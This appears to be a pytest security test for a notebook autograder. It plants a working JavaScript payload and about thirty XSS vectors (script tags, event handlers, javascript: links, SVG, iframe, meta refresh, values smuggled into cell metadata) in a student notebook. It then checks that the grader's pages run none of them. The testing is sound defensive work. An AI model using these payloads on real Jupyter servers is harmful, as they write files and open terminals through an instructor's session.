"""The review path (issue 14): a submission's outputs, markdown, metadata and attachments are inert where read.

One student, mallory, submits notebook 05 carrying every script and navigation vector we know of
(``VECTORS``: each payload, if it ran, would mark the page, PUT a file into the server's folder through
``/api/contents`` with the page's ``_xsrf`` cookie, and reach a listener on 127.0.0.1). The course is
graded by a real ``optgrade autograde``; then the instructor's formgrader is started with
``optgrade formgrader`` (JupyterLab on the course, a real server with a token) and mallory's notebook is
opened in headless Chromium at the formgrader's own submission page, the page its grading panel shows.
Nothing may run: no request from the page to the API, the listener or a payload URL, no file written,
no page mark, no payload attribute left in the DOM, no navigation. The same for the feedback page.
The written answer still shows its text and maths, with a note saying what markup was removed.
"""

import base64
import json
import os
import re
import secrets
import shutil
import sys
import urllib.request
from pathlib import Path

import nbformat
import pytest
from attack_helpers import Listener, cli
from browser_support import free_port, running, screenshot_on_failure
from course_helpers import cell_grades
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell
from nbgrader.api import Gradebook

from optgrade.course.gradebook import db_url
from optgrade.course.layout import COURSE_ID, Course

pytestmark = pytest.mark.slow

NOTEBOOK = "05_adam"
ANSWER_ID = "adam_why_it_works"
ANSWER_TEXT = "Adam keeps a running mean of the gradients"
ANSWER_MATH = r"\hat{v}_t = v_t / (1 - \beta_1^t)"
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


def js(key, port):
    """The payload: marks the page, writes a file through the instructor's API session, calls the listener."""
    return (
        f"(function(){{var k='{key}';document.documentElement.setAttribute('data-pwned-'+k,'1');"
        "var x=(document.cookie.match(/_xsrf=([^;]+)/)||[])[1]||'';"
        "try{fetch('/api/contents/pwned_'+k+'.txt',{method:'PUT',headers:{'Content-Type':'application/json',"
        "'X-XSRFToken':x},body:JSON.stringify({type:'file',format:'text',content:k})});"
        f"fetch('/api/terminals',{{method:'POST',headers:{{'X-XSRFToken':x}}}});"
        f"fetch('http://127.0.0.1:{port}/pwned_'+k)}}catch(e){{}}}})()"
    )


def vectors(port):
    """{name: (where, payload)}: where says how the submission carries it (see ``hostile``)."""
    j = lambda key: js(key, port)  # noqa: E731
    svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="{}"><script>{}</script><circle r="3"/></svg>'
    return {
        "html_script": ("text/html", f"<script>{j('html_script')}</script>"),
        "html_img_onerror": ("text/html", f'<img src="x" onerror="{j("html_img_onerror")}">'),
        "javascript_output": ("application/javascript", j("javascript_output")),
        "svg_script": ("image/svg+xml", svg.format(j("svg_onload"), j("svg_script"))),
        "svg_in_html": ("text/html", svg.format(j("svg_html_onload"), j("svg_html_script"))),
        "javascript_link": ("text/html", f'<a class="pwnlink" href="javascript:{j("javascript_link")}">open</a>'),
        "iframe_srcdoc": ("text/html", f'<iframe srcdoc="&lt;script&gt;{j("iframe_srcdoc")}&lt;/script&gt;"></iframe>'),
        "meta_refresh": ("text/html", '<meta http-equiv="refresh" content="0;url=/api/contents/pwned_meta_refresh">'),
        "base_href": ("text/html", f'<base href="http://127.0.0.1:{port}/pwned_base/"><img src="relative.png">'),
        "css_loads": (
            "text/html",
            f"<style>@import url(http://127.0.0.1:{port}/pwned_css_import);</style>"
            f'<div style="background:url(http://127.0.0.1:{port}/pwned_css_inline)">styled</div>',
        ),
        "form_autofocus": (
            "text/html",
            f'<form action="/api/contents/pwned_form" method="post"><input autofocus onfocus="{j("form_autofocus")}">'
            "<button>go</button></form>",
        ),
        "object_embed": (
            "text/html",
            f'<object data="http://127.0.0.1:{port}/pwned_object"></object>'
            f'<embed src="http://127.0.0.1:{port}/pwned_embed">',
        ),
        "isolated_html": ("text/html isolated", f"<script>{j('isolated_html')}</script>"),
        "markdown_output": ("text/markdown", f'<img src="x" onerror="{j("markdown_output")}"> **bold**'),
        "latex_href": ("text/latex", f"$\\href{{javascript:{j('latex_href')}}}{{click}}$"),
        "widget_view": ("application/vnd.jupyter.widget-view+json", f"</script><script>{j('widget_view')}</script>"),
        "png_width": ("image/png width", f"1 onload={j('png_width')} x"),
        "stream_name": ("stream name", f'stdout" onmouseover="{j("stream_name")}'),
        "execution_count": ("execution_count", f'<img src="x" onerror="{j("execution_count")}">'),
        "cell_tags": ("tags", f'x"><img src="x" onerror="{j("cell_tags")}">'),
        "cell_id": ("cell id", f'x"><img src=x onerror="{j("cell_id")}">'),
        "raw_html_cell": ("raw cell", f"<script>{j('raw_html_cell')}</script>"),
        "markdown_html": (
            "markdown",
            f'<details open ontoggle="{j("markdown_details")}"><summary>s</summary>x</details>'
            f'<svg><animate onbegin="{j("markdown_animate")}" attributeName="x" dur="1s"/></svg>',
        ),
        "markdown_links": (
            "markdown",
            f"[plain](javascript:{j('markdown_link')}) [entity](jav&#x61;script:{j('markdown_entity')}) "
            f"![image](javascript:{j('markdown_image')})\n\n[ref]: javascript:{j('markdown_ref')}\n\nsee [ref]",
        ),
        "markdown_math": ("markdown", f'$x<img src=x onerror="{j("math_img")}">$ and $\\href{{javascript:0}}{{y}}$'),
        "attachment": ("attachment", svg.format(j("attachment_onload"), j("attachment_script"))),
        "widget_state": ("widget state", f"</script><script>{j('widget_state')}</script>"),
        "answer": (
            "written answer",
            f'<img src="x" onerror="{j("answer_img")}"> <script>{j("answer_script")}</script>',
        ),
    }


def _output(where, payload):
    if where == "text/html isolated":
        return new_output("display_data", data={"text/html": payload}, metadata={"text/html": {"isolated": True}})
    if where == "image/png width":
        return new_output("display_data", data={"image/png": PNG}, metadata={"image/png": {"width": payload}})
    return new_output("display_data", data={where: payload, "text/plain": "<output>"})


def hostile(notebook_path, port):
    """Write every vector into the released notebook, as a student can edit its JSON."""
    notebook = json.loads(Path(notebook_path).read_text())
    cells = [nbformat.from_dict(cell) for cell in notebook["cells"]]
    extra = []
    for name, (where, payload) in vectors(port).items():
        if where in ("markdown",):
            extra.append(new_markdown_cell(payload))
        elif where == "raw cell":
            cell = new_raw_cell(payload)
            cell.metadata["raw_mimetype"] = "text/html"
            cell.metadata["format"] = "text/html"
            extra.append(cell)
        elif where == "attachment":
            cell = new_markdown_cell("![chart](attachment:chart.svg)")
            cell["attachments"] = {
                "chart.svg": {"image/svg+xml": base64.b64encode(payload.encode()).decode()},
                "page.html": {"text/html": base64.b64encode(payload.encode()).decode()},
            }
            extra.append(cell)
        elif where == "widget state":
            state = {"state": {"x": {"model_name": payload, "state": {"value": payload}}}}
            notebook["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": state}
        elif where == "written answer":
            answer = next(c for c in cells if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == ANSWER_ID)
            answer["source"] = f"{ANSWER_TEXT}: ${ANSWER_MATH}$ **(bias-corrected)**.\n\n{payload}\n"
        elif where == "stream name":
            cell = new_code_cell("print(1)", execution_count=1)
            cell.outputs = [{"output_type": "stream", "name": payload, "text": "1\n"}]
            extra.append(cell)
        elif where == "execution_count":
            cell = new_code_cell("1 + 1")
            cell["execution_count"] = payload
            extra.append(cell)
        elif where == "tags":
            cell = new_code_cell("pass")
            cell.metadata["tags"] = [payload]
            extra.append(cell)
        elif where == "cell id":
            cell = new_code_cell("pass")
            cell["id"] = payload
            extra.append(cell)
        else:
            cell = new_code_cell(f"show_{name}()", execution_count=1)
            cell.outputs = [_output(where, payload)]
            extra.append(cell)
    setup = next(i for i, c in enumerate(cells) if c.get("metadata", {}).get("nbgrader", {}).get("locked"))
    cells[setup + 1 : setup + 1] = extra
    notebook["cells"] = [dict(cell) for cell in cells]
    notebook["nbformat_minor"] = 5
    Path(notebook_path).write_text(json.dumps(notebook))


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """A course of notebook 05 (built, released, autograded): mallory hostile, bob untouched; (course, listener)."""
    listener = Listener()
    root = tmp_path_factory.mktemp("review")
    course_dir = root / "course"
    for args in (["build", "--course", course_dir, NOTEBOOK], ["release", "--course", course_dir]):
        code, output, _ = cli(*args)
        assert code == 0, output
    course = Course(course_dir)
    incoming = root / "incoming"
    for student in ("mallory", "bob"):
        shutil.copytree(course.release("workbook"), incoming / student)
    hostile(incoming / "mallory" / f"{NOTEBOOK}.ipynb", listener.port)
    code, output, seconds = cli("autograde", "--course", course_dir, incoming)
    assert code == 0, output
    print(f"autograde of the hostile class: {seconds:.1f} s")
    yield course, listener
    listener.close()


@pytest.fixture(scope="module")
def formgrader(graded):
    """``optgrade formgrader`` on the graded course: (base url, token)."""
    course, _ = graded
    port, token = free_port(), secrets.token_hex(16)
    command = [sys.executable, "-m", "optgrade.cli", "formgrader", "--course", course.root, "--port", str(port)]
    log = course.root.parent / "formgrader.log"
    env = os.environ | {"JUPYTER_TOKEN": token}
    with running([*map(str, command), "--no-browser"], log, token, port, "optgrade formgrader", env=env) as url:
        yield url, token


def _submission_id(course, student):
    with Gradebook(db_url(course), COURSE_ID) as gradebook:
        return gradebook.find_submission_notebook(NOTEBOOK, "workbook", student).id


# what, left in a page, shows a payload survived (even one that did not fire)
SURVIVORS = """() => {
  const found = [];
  for (const el of document.querySelectorAll('*')) {
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase(), value = attr.value.toLowerCase();
      if (name.startsWith('data-pwned')) found.push('page marked ' + name);
      else if (value.includes('pwned') && !(name === 'href' && /^(https?|mailto):/.test(value)))
        found.push(el.tagName + ' ' + name + '=' + value.slice(0, 60));  // an http(s) link is kept on purpose
      else if (name.startsWith('on') && el.closest('.cell, .jp-Cell, .text_cell_render, .output_area'))
        found.push(el.tagName + ' handler ' + name);
      else if (['href', 'src', 'action', 'data', 'formaction'].includes(name)
               && /^\\s*(javascript|vbscript):/.test(value))
        found.push(el.tagName + ' ' + name + '=' + value.slice(0, 40));
    }
    if (['SCRIPT'].includes(el.tagName) && el.textContent.includes('pwned')) found.push('script with payload');
    if (['IFRAME', 'OBJECT', 'EMBED', 'BASE', 'FORM', 'META', 'STYLE', 'SVG'].includes(el.tagName.toUpperCase())
        && el.closest('.cell, .text_cell_render, .output_area, .output_subarea'))
      found.push('element ' + el.tagName);
  }
  return found;
}"""


def _visit(browser, url, folder, name, listener, allowed_origin=None):
    """Open url, hover and click what a grader would, wait; (page text, requests the page made, survivors)."""
    page = browser.new_page(viewport={"width": 1280, "height": 900})
    requests = []
    page.on("request", lambda request: requests.append((request.method, request.url)))
    with screenshot_on_failure(page, folder, name):
        page.goto(url, wait_until="load")
        page.wait_for_timeout(1500)
        # a grader clicks what a student's cell offers; http(s) and mailto links are kept on purpose (they navigate
        # away, as any link does), every other target must be gone
        links = page.locator(".cell a, .text_cell_render a, .output_area a")
        for link in links.all()[:40]:
            if re.match(r"(https?:|mailto:)", link.get_attribute("href") or ""):
                continue
            try:
                link.hover(timeout=1000)
                link.click(timeout=1000, modifiers=[], no_wait_after=True)
            except Exception:  # a link hidden or gone: nothing to click
                pass
            if page.url.split("#")[0] != url.split("#")[0]:
                page.go_back()
        page.mouse.wheel(0, 20000)
        page.wait_for_timeout(1500)
        text = page.inner_text("body")
        maths = page.eval_on_selector_all("img.math", "els => els.map(e => e.alt)")
        survivors = page.evaluate(SURVIVORS)
        base = page.evaluate("document.baseURI")
        title = page.title()
    page.close()
    listener_hits = [data for _, data in listener.connections]
    bad = [
        (method, request)
        for method, request in requests
        if "pwned" in request.lower()
        or "/api/contents" in request
        or "/api/terminals" in request
        or f":{listener.port}" in request
    ]
    return {
        "text": text,
        "maths": maths,
        "bad_requests": bad,
        "listener": listener_hits,
        "survivors": survivors,
        "base": base,
        "title": title,
    }


def _no_written_files(course):
    return sorted(str(path) for path in course.root.rglob("pwned_*"))


def test_the_formgrader_shows_mallorys_notebook_and_nothing_in_it_runs(graded, formgrader, browser, tmp_path):
    course, listener = graded
    url, token = formgrader
    submission = _submission_id(course, "mallory")
    page_url = f"{url}/formgrader/submissions/{submission}/?token={token}"
    seen = _visit(browser, page_url, tmp_path / "screenshots", "formgrader", listener)
    assert seen["bad_requests"] == [], seen["bad_requests"]
    assert seen["listener"] == [], seen["listener"]
    assert seen["survivors"] == [], seen["survivors"]
    assert _no_written_files(course) == []
    assert seen["base"].startswith(url), seen["base"]
    assert "PWNED" not in seen["title"]
    terminals = urllib.request.Request(f"{url}/api/terminals", headers={"Authorization": f"token {token}"})
    with pytest.raises(urllib.error.HTTPError):  # terminals are off: the endpoint is not there at all
        urllib.request.urlopen(terminals, timeout=5)
    # the human grader still reads the answer: text, the TeX of its maths, and what was removed
    assert ANSWER_TEXT in seen["text"]
    assert ANSWER_MATH in seen["maths"], seen["maths"][:20]  # drawn offline, its TeX as the picture's alt text
    assert re.search(r"2 HTML elements removed from this answer", seen["text"]), seen["text"][-2000:]


def test_the_feedback_page_is_inert_and_forbids_script(graded, browser, tmp_path):
    course, listener = graded
    page = course.feedback("mallory", "workbook") / f"{NOTEBOOK}.html"
    source = page.read_text()
    assert re.search(r'<meta http-equiv="Content-Security-Policy" content="[^"]*script-src \'none\'', source)
    seen = _visit(browser, page.as_uri(), tmp_path / "screenshots", "feedback", listener)
    assert seen["bad_requests"] == [], seen["bad_requests"]
    assert seen["listener"] == [], seen["listener"]
    assert seen["survivors"] == [], seen["survivors"]
    assert ANSWER_TEXT in seen["text"]


def test_the_sanitiser_changes_no_grade_and_the_report_counts_mallory(graded):
    course, _ = graded
    grades = cell_grades(course, "workbook")
    autograded = {name: grade for name, grade in grades["mallory"].items() if grade.cell_type == "code"}
    assert autograded == {name: grade for name, grade in grades["bob"].items() if grade.cell_type == "code"}
    assert grades["mallory"][ANSWER_ID].needs_manual_grade  # an answer for the human grader, not a 0
    code, output, _ = cli("report", "--course", course.root)
    assert code == 0, output
    report = (course.root / "reports" / "workbook" / "report.html").read_text()
    assert re.search(r"1 submission[^<]*markup removed", report), report[:3000]


def test_defence_in_depth_the_formgrader_cleans_again_at_render_time(graded, formgrader, browser, tmp_path):
    """Payloads written straight into autograded/ (as if autograde's sanitiser had been bypassed) stay inert."""
    course, listener = graded
    url, token = formgrader
    path = course.autograded("mallory", "workbook") / f"{NOTEBOOK}.ipynb"
    saved = path.read_text()
    notebook = nbformat.reads(saved, as_version=4)
    payloads = {key: value for key, value in vectors(listener.port).items() if value[0] in ("text/html", "markdown")}
    for name, (where, payload) in payloads.items():
        if where == "markdown":
            notebook.cells.insert(2, new_markdown_cell(payload))
        else:
            cell = new_code_cell(f"show_{name}()", execution_count=1)
            cell.outputs = [_output(where, payload)]
            notebook.cells.insert(2, cell)
    try:
        nbformat.write(notebook, path)
        page_url = f"{url}/formgrader/submissions/{_submission_id(course, 'mallory')}/?token={token}"
        seen = _visit(browser, page_url, tmp_path / "screenshots", "formgrader-render", listener)
    finally:
        path.write_text(saved)
    assert seen["bad_requests"] == [], seen["bad_requests"]
    assert seen["listener"] == [], seen["listener"]
    assert seen["survivors"] == [], seen["survivors"]
    assert ANSWER_TEXT in seen["text"]
